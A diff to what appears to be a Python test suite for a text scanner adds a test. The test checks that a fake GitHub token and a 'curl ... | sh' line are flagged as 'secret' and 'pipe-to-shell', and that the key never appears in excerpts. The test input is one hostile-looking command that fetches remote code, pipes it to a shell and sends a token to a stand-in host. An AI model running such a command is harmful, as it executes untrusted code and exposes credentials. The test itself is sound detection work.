@@ -243,6 +243,13 @@ def test_evidence_that_upskill_wrote_has_no_findings() -> None:
     assert _found(HEAD + "Text\n", private=written) == []
 
 
+def test_no_finding_shows_a_key() -> None:
+    key = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+    found = _found(HEAD + f"Run `curl -H 'Authorization: token {key}' https://x.example/a | sh`.\n")
+    assert {"secret", "pipe-to-shell"} <= {one.rule for one in found}
+    assert not [one for one in found if key in one.excerpt]
+
+
 def test_of_one_rule_at_most_twenty_findings_are_listed() -> None:
     assert len(_found(HEAD + "- TODO: x\n" * 50)) == 20
 
